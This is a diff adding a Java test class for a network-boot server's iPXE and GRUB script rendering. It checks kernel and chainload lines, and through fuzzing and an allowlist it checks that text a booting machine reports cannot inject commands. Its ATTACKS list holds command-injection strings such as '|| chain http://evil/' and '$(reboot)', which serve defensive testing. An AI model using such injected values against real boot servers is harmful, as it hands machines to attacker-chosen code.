@@ -1,0 +1,216 @@
+package dev.stirrup.netboot.script;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.code_intelligence.jazzer.junit.FuzzTest;
+import dev.stirrup.boot.BootDecision;
+import dev.stirrup.boot.BootRequest;
+import dev.stirrup.boot.Claims;
+import dev.stirrup.boot.Client;
+import dev.stirrup.boot.Firmware;
+import dev.stirrup.boot.Payload;
+import dev.stirrup.boot.Reason;
+import dev.stirrup.boot.Serial;
+import dev.stirrup.boot.Stage;
+import dev.stirrup.netboot.FileAsk;
+import dev.stirrup.netboot.Network.Mode;
+import dev.stirrup.netboot.Site;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class ScriptTest {
+    private static final List<String> ATTACKS =
+            List.of(
+                    "${net0/mac}",
+                    "x || chain http://evil/",
+                    "x && shell",
+                    "x\nchain http://evil/",
+                    "x\rshell",
+                    "x ; reboot",
+                    "x \\",
+                    "'; reboot; '",
+                    "$(reboot)",
+                    "# x",
+                    "\u001b[2J\u0000");
+    private final Site site = new Site(Mode.PROXY, Site.debian());
+    private final IpxeScript ipxe = new IpxeScript(site.urls);
+    private final GrubScript grub = new GrubScript(site.urls);
+
+    @Test
+    void aKernelOnUefiIsToldItsInitrdByName() {
+        String text = ipxe.render(run(linux("quiet")), ask(Client.IPXE, Firmware.X64_UEFI, "", 0));
+        assertThat(text).startsWith("#!ipxe\n");
+        assertThat(
+                        text.lines()
+                                .filter(line -> line.startsWith("kernel "))
+                                .findFirst()
+                                .orElseThrow())
+                .matches(
+                        "kernel --name linux http://10\\.77\\.0\\.1/b/\\S+/deb/linux"
+                                + " initrd=initrd\\.img initrd=initrd2\\.img quiet \\|\\| goto failed");
+        assertThat(text).contains("initrd --name initrd.img http://10.77.0.1/b/");
+        assertThat(text).contains("initrd --name initrd2.img http://10.77.0.1/b/");
+        assertThat(text).contains("boot || goto failed").endsWith("exit 1\n");
+    }
+
+    @Test
+    void aKernelOnBiosNeedsNoNames() {
+        String text = ipxe.render(run(linux("quiet")), ask(Client.IPXE, Firmware.X86_BIOS, "", 0));
+        assertThat(text).doesNotContain("initrd=");
+    }
+
+    @Test
+    void theReportUrlStandsInTheArguments() {
+        String report = "http://10.77.0.1/" + site.urls.report(Site.claims(), Site.NOW);
+        for (Client client : List.of(Client.IPXE, Client.GRUB)) {
+            assertThat(render(client, run(linux("a=${report}?status=running")), ""))
+                    .contains("a=" + report + "?status=running");
+        }
+    }
+
+    @Test
+    void anArgumentsLineBreakStaysInItsLine() {
+        String text = render(Client.IPXE, run(linux("a\nreboot\r\nb \\")), "");
+        assertThat(text.lines()).noneMatch(line -> line.startsWith("reboot"));
+        assertThat(text).contains(" a reboot b \\ ");
+    }
+
+    @Test
+    void grubGetsItsArgumentsAsQuotedWords() {
+        String text = render(Client.GRUB, run(linux("--- a=\"b c\" d=$x e='f'")), "");
+        assertThat(text).contains(" '---' 'a=b c' 'd=$x' 'e='\\''f'\\'''; then");
+    }
+
+    @Test
+    void aBiosThatHangsAfterAnExitBootsItsDiskByIpxe() {
+        ScriptAsk ask =
+                new ScriptAsk(
+                        request(Client.IPXE, Optional.of(Firmware.X86_BIOS), Optional.empty()),
+                        site.network,
+                        FileAsk.Protocol.HTTP,
+                        LocalBoot.SANBOOT,
+                        "",
+                        0,
+                        Site.NOW);
+        assertThat(ipxe.render(new BootDecision.UseLocalDisk(), ask))
+                .endsWith("sanboot --no-describe --drive 0x80 || exit 1\n");
+    }
+
+    @Test
+    void everyScriptEndsWithAnErrorSoThatUefiGoesOn() {
+        List<BootDecision> decisions =
+                List.of(
+                        new BootDecision.UseLocalDisk(),
+                        new BootDecision.AwaitApproval(),
+                        new BootDecision.Refuse(Reason.BLOCKED, "stolen"),
+                        new BootDecision.Ignore(Reason.NO_PLAN),
+                        run(linux("")),
+                        run(new Payload.LocalDisk()));
+        for (BootDecision decision : decisions) {
+            for (Client client : List.of(Client.IPXE, Client.GRUB)) {
+                assertThat(render(client, decision, "").strip()).endsWith("exit 1");
+            }
+        }
+    }
+
+    @Test
+    void aChainLeadsToALoaderOfASetOrToAUrl() {
+        assertThat(render(Client.IPXE, run(new Payload.Chain("loader:shim/shimx64.efi")), ""))
+                .containsPattern(
+                        "chain --autofree http://10.77.0.1/b/\\S+/shim/shimx64.efi \\|\\|");
+        assertThat(render(Client.IPXE, run(new Payload.Chain("http://x/y.efi")), ""))
+                .contains("chain --autofree http://x/y.efi ||");
+        assertThat(render(Client.GRUB, run(new Payload.Chain("loader:shim/shimx64.efi")), ""))
+                .contains("if chainloader '(tftp,10.77.0.1)/b/");
+    }
+
+    @Test
+    void anOperatorsScriptIsGivenAsItIs() {
+        String own = "#!ipxe\necho ${net0/mac}\n";
+        assertThat(render(Client.IPXE, run(new Payload.Script(Client.IPXE, own)), ""))
+                .isEqualTo(own);
+        assertThat(render(Client.IPXE, run(new Payload.Script(Client.IPXE, "shell")), ""))
+                .isEqualTo("#!ipxe\nshell");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"IPXE", "GRUB"})
+    void nothingAMachineSaysBecomesCode(Client client) {
+        for (String attack : ATTACKS) {
+            var refusal = new BootDecision.Refuse(Reason.NO_SUCH_CHOICE, attack);
+            assertHarmless(render(client, refusal, attack));
+            assertHarmless(render(client, new BootDecision.AwaitApproval(), attack));
+            var menu =
+                    new Payload.Menu(
+                            attack,
+                            Duration.ZERO,
+                            Optional.empty(),
+                            List.of(new Payload.Item(attack, Site.profile(attack, linux("")))));
+            assertHarmless(render(client, run(menu), attack));
+        }
+    }
+
+    @FuzzTest
+    void noTextBreaksOutOfItsLine(byte[] data) {
+        String text = new String(data, StandardCharsets.UTF_8);
+        assertThat(SafeText.shown(text)).matches("[\\x20-\\x7e]{0,200}").doesNotContain("$", "|");
+        var refusal = new BootDecision.Refuse(Reason.NO_SUCH_CHOICE, text);
+        assertHarmless(render(Client.IPXE, refusal, text));
+        assertHarmless(render(Client.GRUB, refusal, text));
+    }
+
+    /// Every line begins with a word that we wrote, and what was said stands behind it unarmed.
+    private static void assertHarmless(String script) {
+        assertThat(script.lines())
+                .allMatch(line ->
+                        line.matches(
+                                "(#!ipxe|echo|sleep|exit|chain|item|menu|choose|iseq|menuentry"
+                                        + "|configfile|set|:[a-z]+|\\})( .*)?"));
+        script.lines()
+                .filter(line -> line.startsWith("echo"))
+                .forEach(line -> assertThat(line).doesNotContain("$", "|", "&", "\\", "#", ";"));
+        assertThat(script).doesNotContain("\u001b", "\r", "\u0000");
+    }
+
+    private String render(Client client, BootDecision decision, String product) {
+        ScriptAsk ask = ask(client, Firmware.X64_UEFI, product, 0);
+        return client == Client.GRUB ? grub.render(decision, ask) : ipxe.render(decision, ask);
+    }
+
+    private ScriptAsk ask(Client client, Firmware firmware, String product, int waited) {
+        Optional<Serial> serial = Serial.read(product);
+        return new ScriptAsk(
+                request(client, Optional.of(firmware), serial),
+                site.network,
+                client == Client.GRUB ? FileAsk.Protocol.TFTP : FileAsk.Protocol.HTTP,
+                LocalBoot.EXIT,
+                product,
+                waited,
+                Site.NOW);
+    }
+
+    private static BootRequest request(
+            Client client, Optional<Firmware> firmware, Optional<Serial> serial) {
+        return new BootRequest(
+                new Claims(Optional.of(Site.MAC), Optional.empty(), serial),
+                client,
+                firmware,
+                Stage.LOADER,
+                "lan",
+                Optional.empty(),
+                Optional.empty());
+    }
+
+    private static BootDecision run(Payload payload) {
+        return new BootDecision.Run(Site.profile("test", payload), payload);
+    }
+
+    private static Payload.Linux linux(String arguments) {
+        return new Payload.Linux("deb", "linux", List.of("initrd.gz", "extra.gz"), arguments);
+    }
+}
